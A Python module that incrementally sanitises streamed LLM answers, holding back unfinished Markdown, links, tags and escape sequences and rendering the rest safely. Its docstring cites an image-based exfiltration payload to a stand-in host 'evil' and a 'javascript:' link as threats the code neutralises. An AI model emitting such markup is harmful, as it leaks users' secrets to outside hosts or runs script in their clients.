"""Streamed answers as safe as whole ones: render the text so far, hold back what is unfinished.

An LLM splits `![x](https://evil/?q=SECRET)` or `<a href="javascript:…">` over many
pieces, so no piece on its own looks unsafe. `SafeStream` renders the text so far the
way the final answer is rendered:

1. terminal control sequences go (`safety.terminal_safe`),
2. citations to no listed source are dropped (`safety.repair_citations`),
3. the text is parsed as CommonMark and written back safe (`markup.blocks`): images
   become alt text, HTML is shown as text, definitions go, links keep only http(s),
4. numbers no cited source supports are flagged (`numbers.check_by_paragraph`).

It releases only the part that later text cannot change: never a partial word, an
unfinished `[link](…`, `![image`, `<tag`, code span, reference line, table row or escape
sequence, nor a paragraph whose numbers still wait for their citation. What it has
released is always a prefix of the final text, so every surface can print deltas as
they come and end with exactly the final answer.

The work stays linear in the answer's length: a top-level block that another block
follows can no longer change, so it is rendered once and only the last block (the
unsettled tail) is parsed again, and only after the tail grew by 1/REFRESH_FRACTION.
"""

from __future__ import annotations

import logging
from collections.abc import Sequence
from dataclasses import dataclass, field

from advisor.markup import blocks
from advisor.numbers import check_by_paragraph
from advisor.records import Source
from advisor.safety import CITATION, strip_citations, terminal_safe
from advisor.unfinished import escape_open, open_at, settle, table_hold

__all__ = ["REFRESH_FRACTION", "SMALL_TAIL", "Rendered", "SafeStream", "open_at", "render"]

log = logging.getLogger(__name__)

REFRESH_FRACTION = 16
"""Render a long tail again once it grew by 1/REFRESH_FRACTION of its length."""
SMALL_TAIL = 1024
"""A tail up to this long is rendered again after every word (bounded work per word)."""


@dataclass(frozen=True)
class Rendered:
    """The final answer text, the sources it cites and the numbers no cited source supports."""

    text: str
    cited: frozenset[int] = frozenset()
    unsupported: tuple[str, ...] = ()


def render(raw: str, sources: Sequence[Source], given: frozenset[float] = frozenset()) -> Rendered:
    """The whole answer made safe, exactly as `SafeStream.finish` ends it."""
    guard = SafeStream(sources, given=given)
    guard.push(raw)
    guard.finish()
    assert guard.result is not None
    return guard.result


@dataclass(frozen=True)
class _Part:
    """The rendered, number-checked text of a raw tail, split where its last block starts."""

    settled: str
    """The blocks before the last one: final."""
    lead: str
    """The separator before the last block."""
    last: str
    pending: int
    """How much of `last` is final (numbers after it still wait for a citation)."""
    last_line: int
    """The line of the tail where the last block starts."""
    cited: frozenset[int]
    unsupported: tuple[str, ...]
    settled_unsupported: int
    """How many of `unsupported` are in `settled`."""


@dataclass
class SafeStream:
    """Incremental sanitiser: `push` each raw piece and print what it returns, then `finish`."""

    sources: Sequence[Source]
    given: frozenset[float] = frozenset()
    """Numbers the user's message and the conversation hold (`numbers.check_by_paragraph`)."""
    sent: str = ""
    """Everything released so far (always a prefix of the final text)."""
    result: Rendered | None = None
    parsed: int = 0
    """Characters handed to the Markdown parser so far: the stream's work, for tests."""
    _settled_raw: list[str] = field(default_factory=list, repr=False)
    """The raw text before the unsettled tail (it ends at a line start)."""
    _tail: list[str] = field(default_factory=list, repr=False)
    """The raw pieces of the unsettled tail, joined when it is rendered (no copy per piece)."""
    _length: int = field(default=0, repr=False)
    _tail_length: int = field(default=0, repr=False)
    _done: str = field(default="", repr=False)
    _lead: str = field(default="", repr=False)
    _cited: set[int] = field(default_factory=set, repr=False)
    _unsupported: list[str] = field(default_factory=list, repr=False)
    _seen_at: int = field(default=0, repr=False)

    def push(self, delta: str) -> str:
        """Add a raw piece; return the newly safe text to show (often "")."""
        if self.result is not None:
            raise RuntimeError("SafeStream.push after finish")
        self._tail.append(delta)
        self._length += len(delta)
        self._tail_length += len(delta)
        grown, tail_size = self._length - self._seen_at, self._tail_length
        if not _ends_a_word(delta) or (
            tail_size > SMALL_TAIL and grown < tail_size // REFRESH_FRACTION
        ):
            return ""  # nothing new can be released: no word ended, or a long tail grew too little
        self._seen_at = self._length
        tail = self._tail_text()
        cut = _raw_cut(tail)
        if cut == 0:
            return ""
        part = self._render(tail[:cut], finished=False)
        if part.settled:
            self._settle(part, tail)
        shown = _join(self._done, self._lead, part.last[: part.pending])
        return self._release(shown.rstrip())

    def finish(self) -> str:
        """Render the whole text; return the rest of it (what `push` held back)."""
        if self.result is None:
            part = self._render(self._tail_text(), finished=True)
            done = _join(self._done, self._lead, part.settled)
            final = _join(done, part.lead if part.settled else self._lead, part.last)
            self.result = Rendered(
                final.rstrip(),
                frozenset(self._cited | part.cited),
                (*self._unsupported, *part.unsupported),
            )
        final = self.result.text
        if not final.startswith(self.sent):
            log.warning("streamed text is not a prefix of the final answer; the final text wins")
            return ""
        rest = final[len(self.sent) :]
        self.sent = final
        return rest

    @property
    def raw(self) -> str:
        """Every raw piece pushed so far."""
        return "".join(self._settled_raw) + self._tail_text()

    def _tail_text(self) -> str:
        """The unsettled tail as one string (kept joined until the next piece)."""
        if len(self._tail) > 1:
            self._tail = ["".join(self._tail)]
        return self._tail[0] if self._tail else ""

    def _render(self, raw: str, finished: bool) -> _Part:
        """Render a raw tail; unless `finished`, only up to its first unfinished part."""
        text, _ = strip_citations(terminal_safe(raw), len(self.sources))
        if not finished:
            text = text[: settle(text, min(open_at(text), table_hold(text)))]
        self.parsed += len(text)
        found = blocks(text)
        settled, lead, last, line = "", "", "", 0
        if found:
            *head, (line, last) = found
            settled = "".join(chunk for _, chunk in head)
            if head:
                lead = last[: len(last) - len(last.lstrip("\n"))]
                last = last[len(lead) :]
        head_check, _ = check_by_paragraph(settled, self.sources, True, self._cited, self.given)
        head_cited = self._cited | _cited(head_check.text, len(self.sources))
        last_check, pending = check_by_paragraph(
            last, self.sources, finished, head_cited, self.given
        )
        return _Part(
            settled=head_check.text,
            lead=lead,
            last=last_check.text,
            pending=pending,
            last_line=line,
            cited=frozenset(head_cited | _cited(last_check.text, len(self.sources))),
            unsupported=(*head_check.unsupported, *last_check.unsupported),
            settled_unsupported=len(head_check.unsupported),
        )

    def _settle(self, part: _Part, tail: str) -> None:
        """Keep the blocks before the last one for good; the tail starts at the last block."""
        self._done = _join(self._done, self._lead, part.settled)
        self._lead = part.lead
        self._unsupported.extend(part.unsupported[: part.settled_unsupported])
        self._cited |= _cited(part.settled, len(self.sources))
        offset = 0
        for _ in range(part.last_line):
            offset = tail.index("\n", offset) + 1
        self._settled_raw.append(tail[:offset])
        self._tail = [tail[offset:]]
        self._tail_length = len(self._tail[0])

    def _release(self, text: str) -> str:
        if len(text) <= len(self.sent) or not text.startswith(self.sent):
            return ""
        new = text[len(self.sent) :]
        self.sent = text
        return new


def _ends_a_word(delta: str) -> bool:
    """Whether a piece may let the release point move: it holds whitespace (a word ended)."""
    return any(c.isspace() for c in delta)


def _join(first: str, sep: str, second: str) -> str:
    """Two parts of an answer with their separator (or whichever is not empty)."""
    return first + sep + second if first and second else first or second


def _cited(text: str, n_sources: int) -> set[int]:
    return {n for m in CITATION.finditer(text) if 1 <= (n := int(m.group(1))) <= n_sources}


def _raw_cut(raw: str) -> int:
    """End of the last word that whitespace follows, before any unfinished escape sequence."""
    end = len(raw)
    line = raw.rfind("\n") + 1
    escape = escape_open(raw[line:])
    if escape is not None:
        end = line + escape
    if end == len(raw):  # the last word may still grow
        while end > 0 and not raw[end - 1].isspace():
            end -= 1
    return settle(raw, end)
